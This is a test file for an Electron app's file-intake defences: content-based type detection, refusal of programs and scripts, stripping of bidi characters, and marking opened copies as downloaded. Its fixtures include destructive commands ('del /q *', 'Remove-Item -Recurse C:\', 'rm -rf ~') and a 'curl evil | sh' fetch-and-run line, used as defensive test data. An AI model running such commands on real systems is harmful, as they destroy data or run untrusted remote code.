import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanFileName } from '../../../../../electron/main/intake/file-name';
import { classifyFile } from '../../../../../electron/main/intake/file-type';
import { decodeBase64Strict } from '../../../../../electron/main/intake/incoming';
import { markDownloaded, quarantineValue, ZONE_IDENTIFIER } from '../../../../../electron/main/platform/mark-downloaded';
import { dbContentHash, makeTempDir, openTestCore, removeDir, type TestCore } from '../../../helpers/core';

// Evidence that cannot run code: the type comes from the content, programs and scripts
// are refused by content and by name, names lose bidi and control characters, and an
// opened copy has a generated name with the verified extension, marked as downloaded.

let core: TestCore;
let dir: string;
afterEach(() => {
  core?.close();
  removeDir(dir);
  removeDir(`${dir}-platform`);
});

const PDF = Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\n%%EOF\n');
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(40, 7)]);
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90), Buffer.from('This program cannot be run in DOS mode')]);
const LNK = Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(60, 1)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(60)]);
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)]);
const b64 = (b: Buffer) => b.toString('base64');

async function client(c: TestCore): Promise<number> {
  return (await c.call('clients.create', { name: '林小红', gender: 'female' })).id;
}

describe('files from outside', () => {
  it('refuses programs, shortcuts and scripts by name and by content, with a translated message, and stores nothing', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    const before = dbContentHash(core.db);
    const hostile: [string, Buffer][] = [
      ['工资单.pdf.exe', EXE],
      ['run.bat', Buffer.from('@echo off\r\ndel /q *\r\n')],
      ['x.lnk', LNK],
      ['x.url', Buffer.from('[InternetShortcut]\r\nURL=file:///C:/evil.exe\r\n')],
      ['x.hta', Buffer.from('<html><hta:application/><script>new ActiveXObject("WScript.Shell")</script></html>')],
      ['x.js', Buffer.from('WScript.Echo(1)')],
      ['x.vbs', Buffer.from('MsgBox 1')],
      ['x.ps1', Buffer.from('Remove-Item -Recurse C:\\')],
      ['x.cmd', Buffer.from('echo hi')],
      ['x.scr', EXE],
      ['x.msi', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
      ['x.html', Buffer.from('<!doctype html><script>alert(1)</script>')],
      ['x.command', Buffer.from('#!/bin/sh\nrm -rf ~\n')],
      ['x.desktop', Buffer.from('[Desktop Entry]\nExec=sh -c evil\n')],
      ['x.app', Buffer.from('bundle')],
      [`invoice\u202Efdp.exe`, EXE],
      // Innocent names, executable content.
      ['合同.pdf', EXE],
      ['photo.jpg', ELF],
      ['录音.m4a', MACHO],
      ['说明.txt', Buffer.from('<!DOCTYPE html><html><body onload="x()">')],
      ['说明2.txt', Buffer.from('#!/bin/bash\ncurl evil | sh\n')],
      ['图.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ];
    for (const [fileName, bytes] of hostile) {
      const err = await core.fail('attachments.upload', { clientId, kind: 'other', fileName, dataBase64: b64(bytes) });
      expect(err.code, fileName).toBe('VALIDATION');
      expect(err.message, fileName).toMatch(/程序、脚本或网页类文件|无法识别/);
    }
    // The picker takes the same rules.
    const picked = path.join(`${dir}-platform`, 'src', '工资单.pdf.exe');
    fs.mkdirSync(path.dirname(picked), { recursive: true });
    fs.writeFileSync(picked, EXE);
    core.platform.nextFiles([picked]);
    expect((await core.fail('attachments.pick', { clientId, kind: 'other' })).message).toContain('程序、脚本或网页类文件');
    expect(dbContentHash(core.db)).toBe(before);
  });

  it('decides the type from the content, not the claimed name or MIME type', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    const att = await core.call('attachments.upload', { clientId, kind: 'other', fileName: 'scan.jpg', mime: 'application/x-msdownload', dataBase64: b64(PDF) });
    expect(att.mime).toBe('application/pdf');
    const png = await core.call('attachments.upload', { clientId, kind: 'other', fileName: 'note.txt', mime: 'text/html', dataBase64: b64(PNG) });
    expect(png.mime).toBe('image/png');
    const text = await core.call('attachments.upload', { clientId, kind: 'other', fileName: '借款记录.csv', dataBase64: b64(Buffer.from('日期,金额\n2025-01-02,300\n')) });
    expect(text.mime).toBe('text/csv');
    // Unknown binary content is not kept.
    const err = await core.fail('attachments.upload', { clientId, kind: 'other', fileName: 'blob.dat', dataBase64: b64(Buffer.from([0, 1, 2, 3, 0, 0, 0xfe])) });
    expect(err.message).toContain('无法识别');
  });

  it('removes bidi and control characters from names, and opens a copy under a generated name with the verified extension, marked as downloaded', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    const att = await core.call('attachments.upload', { clientId, kind: 'other', fileName: `invoice\u202Egpj.pdf`, dataBase64: b64(PDF) });
    expect(att.fileName).toBe('invoicegpj.pdf');
    const disguised = await core.call('attachments.upload', { clientId, kind: 'other', fileName: '工资单.pdf.jpg', dataBase64: b64(PNG) });
    await core.call('attachments.open', { id: disguised.id });
    const [copy] = core.platform.log.opened;
    expect(path.basename(copy!)).toMatch(/^[0-9a-f]{24}\.png$/);
    expect(path.dirname(copy!)).toBe(core.platform.tempDir());
    expect(core.platform.log.marked).toEqual([copy]);
    // A rename cannot smuggle control characters back in either.
    const renamed = await core.call('attachments.update', { id: att.id, rev: att.rev, patch: { fileName: `a\u202Efdp.exe\u2066` } });
    expect(renamed.fileName).toBe('afdp.exe');
  });

  it('an attachment stored before these checks is not opened when it is a program', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    const att = await core.call('attachments.upload', { clientId, kind: 'other', fileName: 'ok.pdf', dataBase64: b64(PDF) });
    // As an older version would have kept it: the name as given.
    core.db.prepare(`UPDATE attachments SET file_name = 'run.exe' WHERE id = ?`).run(att.id);
    expect((await core.fail('attachments.open', { id: att.id })).code).toBe('VALIDATION');
    expect(core.platform.log.opened).toEqual([]);
    expect(fs.readdirSync(core.platform.tempDir())).toEqual([]);
  });

  it('accepts strict base64 only', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    for (const bad of ['%PDF-not base64!', 'JVBER i0=', 'JVBERi0', 'JVBERi0x=A', 'JVBERi0x-_8=']) {
      const err = await core.fail('attachments.upload', { clientId, kind: 'other', fileName: 'x.pdf', dataBase64: bad });
      expect(err.code, bad).toBe('VALIDATION');
      expect(err.fields?.dataBase64, bad).toBeDefined();
    }
    expect(decodeBase64Strict('JVBERi1=')).toBeNull(); // unused bits set
    expect(decodeBase64Strict(b64(PDF))?.equals(PDF)).toBe(true);
    expect(decodeBase64Strict('')?.length).toBe(0);
  });
});

describe('case import', () => {
  it('applies the same rules to every file of a handed-over case: a program inside refuses the import, names are cleaned', async () => {
    dir = makeTempDir();
    core = openTestCore(dir);
    const clientId = await client(core);
    const good = await core.call('attachments.upload', { clientId, kind: 'other', fileName: `合同\u202Egpj.pdf`, dataBase64: b64(PDF) });
    // The sender's database as an older or hostile Parley could have it: the name with its bidi
    // override, and a program stored as "工资单.pdf".
    core.db.prepare(`UPDATE attachments SET file_name = ? WHERE id = ?`).run(`合同\u202Egpj.pdf`, good.id);
    const out = path.join(`${dir}-platform`, 'case.parleycase');
    core.platform.nextSavePath(out);
    await core.call('cases.export', { clientId, passphrase: 'correct horse battery' });

    const other = openTestCore(makeTempDir());
    try {
      other.platform.nextFiles([out]);
      const picked = await other.call('cases.importPreview', { passphrase: 'correct horse battery' });
      if (!picked.picked) throw new Error('not picked');
      const imported = await other.call('cases.import', { token: picked.token, passphrase: 'correct horse battery' });
      const names = other.db.prepare('SELECT file_name FROM attachments').pluck().all();
      expect(imported.imported).toBe(true);
      expect(names).toEqual(['合同gpj.pdf']);
    } finally {
      other.close();
      removeDir(other.dir);
      removeDir(`${other.dir}-platform`);
    }

    // Now a program in the case: the whole import is refused, naming the file, and nothing is written.
    const stored = core.db.prepare(`SELECT file_id FROM attachments WHERE id = ?`).get(good.id) as { file_id: number };
    const { storeFile } = await import('../../../../../electron/main/attachments/store');
    const exe = storeFile(core.ctx, { bytes: EXE }, 'application/pdf');
    core.db.prepare(`UPDATE attachments SET file_id = ?, file_name = '工资单.pdf' WHERE id = ?`).run(exe.fileId, good.id);
    expect(stored.file_id).not.toBe(exe.fileId);
    const bad = path.join(`${dir}-platform`, 'bad.parleycase');
    core.platform.nextSavePath(bad);
    await core.call('cases.export', { clientId, passphrase: 'correct horse battery' });
    const target = openTestCore(makeTempDir());
    try {
      const before = dbContentHash(target.db);
      target.platform.nextFiles([bad]);
      const err = await target.fail('cases.importPreview', { passphrase: 'correct horse battery' });
      expect(err.code).toBe('VALIDATION');
      expect(err.message).toContain('“工资单.pdf”是程序、脚本或网页类文件');
      expect(dbContentHash(target.db)).toBe(before);
    } finally {
      target.close();
      removeDir(target.dir);
      removeDir(`${target.dir}-platform`);
    }
  });
});

describe('the pieces', () => {
  it('cleans names', () => {
    expect(cleanFileName('a\u0000b\u0007c\u009b.pdf')).toBe('abc.pdf');
    expect(cleanFileName('x.exe. . ')).toBe('x.exe');
    expect(cleanFileName('..')).toBe('file');
    expect(cleanFileName('a/b\\c:d.pdf')).toBe('a_b_c_d.pdf');
    expect(cleanFileName('\u200B\u2067')).toBe('file');
  });

  it('classifies office documents, audio and archives as data, and macro documents as programs', () => {
    const zip = (names: string) => Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.from(names)]);
    expect(classifyFile('a.docx', zip('[Content_Types].xml word/document.xml'))).toMatchObject({ ok: true, ext: 'docx' });
    expect(classifyFile('a.xlsx', zip('[Content_Types].xml xl/workbook.xml'))).toMatchObject({ ok: true, ext: 'xlsx' });
    expect(classifyFile('a.docx', zip('[Content_Types].xml word/vbaProject.bin'))).toMatchObject({ ok: false });
    expect(classifyFile('a.zip', zip('META-INF/MANIFEST.MF'))).toMatchObject({ ok: false });
    expect(classifyFile('a.zip', zip('photos/1.jpg'))).toMatchObject({ ok: true, ext: 'zip' });
    expect(classifyFile('a.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]))).toMatchObject({ ok: true, ext: 'doc' });
    expect(classifyFile('r.amr', Buffer.from('#!AMR\n....'))).toMatchObject({ ok: true, ext: 'amr' });
    expect(classifyFile('r.mp3', Buffer.from('ID3\u0004....'))).toMatchObject({ ok: true, ext: 'mp3' });
    expect(classifyFile('gbk.txt', Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0x0a, 0xc4, 0xe3, 0xba, 0xc3, 0x0a]))).toMatchObject({ ok: true, ext: 'txt' });
  });

  it('marks a copy as downloaded: the Zone.Identifier stream on Windows, the quarantine attribute on macOS', async () => {
    dir = makeTempDir();
    const file = path.join(dir, 'a.pdf');
    fs.writeFileSync(file, PDF);
    // On NTFS this is the alternate stream; elsewhere the same path is a plain file we can read back.
    await markDownloaded(file, 'win32');
    expect(fs.readFileSync(`${file}:Zone.Identifier`, 'utf8')).toBe(ZONE_IDENTIFIER);
    const calls: [string, string[]][] = [];
    const at = new Date('2026-03-02T09:00:00Z');
    await markDownloaded(file, 'darwin', async (cmd, args) => void calls.push([cmd, args]), at);
    expect(calls).toEqual([['/usr/bin/xattr', ['-w', 'com.apple.quarantine', quarantineValue(at), file]]]);
    expect(quarantineValue(at)).toMatch(/^0081;[0-9a-f]+;Parley;$/);
  });
});
